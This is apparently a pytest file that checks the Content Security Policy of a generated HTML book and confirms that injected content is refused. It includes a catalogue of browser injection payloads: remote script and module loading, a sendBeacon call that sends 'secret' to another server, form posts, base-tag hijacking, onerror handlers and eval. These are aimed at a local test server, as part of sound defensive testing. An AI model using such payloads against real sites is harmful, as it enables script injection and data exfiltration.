"""The policy that stands in every page: nothing from elsewhere comes in, nothing is sent there."""

import http.server
import threading
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup
from builder import policy

ROOT = Path(__file__).resolve().parent.parent.parent
CHAPTER = "03_features.html"  # with figures to move, formulas, sounds or editors, as most have
# What a text that has become part of a page could try. Each resolves to the directive it broke.
TRIES = {
    "a script": "const s = document.createElement('script'); s.src = away; document.head.append(s)",
    "a style sheet": "const s = document.createElement('link'); s.rel = 'stylesheet';"
    "s.href = away; document.head.append(s)",
    "a picture": "new Image().src = away",
    "a sound": "new Audio(away).play().catch(() => {})",
    "a frame": "const f = document.createElement('iframe'); f.src = away; document.body.append(f)",
    "a request": "fetch(away).catch(() => {})",
    "a message": "navigator.sendBeacon(away, 'secret')",
    "a socket": "try { new WebSocket(away.replace('http', 'ws')) } catch {}",
    "a module": "const s = document.createElement('script'); s.type = 'module';"
    "s.textContent = `import '${away}'`; document.head.append(s)",
    "a form": "const f = document.createElement('form'); f.action = away; f.method = 'post';"
    "document.body.append(f); f.submit()",
    "a base": "const b = document.createElement('base'); b.href = away; document.head.append(b)",
    "a script in the page": "const s = document.createElement('script');"
    "s.textContent = 'window.smuggled = 1'; document.head.append(s)",
    "an attribute that is run": "const d = document.createElement('div');"
    'd.innerHTML = \'<img src="data:," onerror="window.smuggled = 1">\'; document.body.append(d)',
    "a text that is run": "try { (0, eval)('window.smuggled = 1') } catch {}",
}
# After a moment, since the policy lets a driver run what it refuses to the page.
TRY = """
const [away, done] = arguments;
window.smuggled = 0;
document.addEventListener("securitypolicyviolation", event =>
  setTimeout(() => done([event.effectiveDirective, window.smuggled]), 50), {once: true});
setTimeout(() => { %s }, 0);
"""
VIOLATIONS = """
window.violations = [];
document.addEventListener("securitypolicyviolation", event =>
  window.violations.push(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample}`));
"""


@pytest.fixture(scope="module")
def elsewhere():
    """Another server, and what it has been asked for."""
    asked = []

    class Listening(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/javascript")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_OPTIONS = do_GET

        def log_message(self, *arguments):
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listening) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/away", asked
        server.shutdown()


@pytest.fixture(params=["from a server", "as a file"])
def chapter(request, browser, book):
    """A chapter in the browser, in both ways that a reader may have opened it."""
    if request.param == "as a file":
        browser.driver.get((book.html / CHAPTER).as_uri())
    else:
        browser.open(CHAPTER)
    return browser


def test_every_page_has_the_policy_before_anything_is_loaded(book):
    pages = [p for p in book.html.rglob("*.html") if "_static" not in p.parts]
    assert len(pages) > 30
    for path in pages:
        page = BeautifulSoup(path.read_text("utf-8"), "html.parser")
        (found,) = page.find_all("meta", attrs={"http-equiv": policy.NAME})
        before = [one.name for one in found.find_previous_siblings()]
        assert before in ([], ["meta"]), path.name
        assert found["content"].startswith("default-src 'none'; "), path.name
        assert "http" not in found["content"] and "unsafe-eval" not in found["content"].replace(
            "'wasm-unsafe-eval'", ""
        ), path.name


@pytest.mark.parametrize("what", TRIES)
def test_nothing_is_let_in_from_elsewhere_and_no_smuggled_text_is_run(chapter, elsewhere, what):
    away, asked = elsewhere
    page = urlsplit(chapter.driver.current_url).path
    directive, smuggled = chapter.driver.execute_async_script(TRY % TRIES[what], away)
    assert directive.split("-")[0] in {
        *("script", "style", "img", "media", "frame", "connect", "worker", "form", "base")
    }
    assert smuggled == 0 and asked == []
    assert urlsplit(chapter.driver.current_url).path == page


def test_a_worker_is_held_to_its_page_s_policy(chapter, elsewhere):
    """Workers in the pages are made of texts; what they ask for elsewhere is refused, too."""
    away, asked = elsewhere
    said = chapter.driver.execute_async_script(
        """
        const [away, done] = arguments;
        const text = `fetch("${away}").then(() => postMessage("fetched"), () => {
          try { importScripts("${away}"); postMessage("imported") } catch { postMessage("refused") }
        })`;
        const worker = new Worker(URL.createObjectURL(new Blob([text])));
        worker.onmessage = event => done(event.data);
        """,
        away,
    )
    assert said == "refused" and asked == []


def test_the_tries_would_succeed_in_a_page_without_the_policy(browser, elsewhere, tmp_path):
    """What the other tests see refused would be done: the server hears of it, the text is run."""
    away, asked = elsewhere
    path = tmp_path / "open.html"
    path.write_text("<!DOCTYPE html><meta charset=utf-8><title>open</title><body></body>")
    done = []
    for what, code in TRIES.items():
        asked.clear()
        browser.driver.get(path.as_uri())
        browser.run(f"const away = arguments[0]; window.smuggled = 0; {{ {code} }}", away)
        heard = "return window.smuggled || document.querySelector('base') ? 1 : 0"
        for _ in range(100):
            if asked or browser.run(heard) or "away" in browser.driver.current_url:
                done.append(what)
                break
            browser.driver.execute_async_script("setTimeout(arguments[0], 20)")
    asked.clear()
    assert done == list(TRIES)


def test_what_the_theme_s_buttons_run_is_allowed(browser):
    """The header's buttons have their programs in attributes; the policy names their hashes."""
    browser.open(CHAPTER)
    browser.run(VIOLATIONS)
    button = "[...document.querySelectorAll('[onclick]')]"
    assert browser.run(f"return {button}.length") >= 2
    browser.run("window.print = () => { window.printed = 1 }")
    browser.run(f"{button}.forEach(one => one.click())")
    assert browser.run("return [window.violations, window.printed]") == [[], 1]


@pytest.mark.parametrize("way", ["from a server", "as a file"])
@pytest.mark.parametrize("page", ["index", "try_it", "fool_it", "ear_exam", "search", "04_tcn"])
def test_no_page_breaks_its_own_policy(browser, book, page, way):
    """Scrolled through, so that all that waits for a reader has come; the console is silent."""
    browser.driver.get("about:blank")
    browser.console()
    if way == "as a file":
        browser.driver.get((book.html / f"{page}.html").as_uri())
    else:
        browser.open(f"{page}.html")
    browser.driver.execute_async_script(
        "const done = arguments[0]; let y = 0;"
        "const on = () => { scrollTo(0, y += 600);"
        "  if (y < document.documentElement.scrollHeight) setTimeout(on, 30);"
        "  else setTimeout(done, 300); };"
        "on()"
    )
    said = [entry["message"] for entry in browser.console()]
    assert [one for one in said if "Content Security Policy" in one] == []
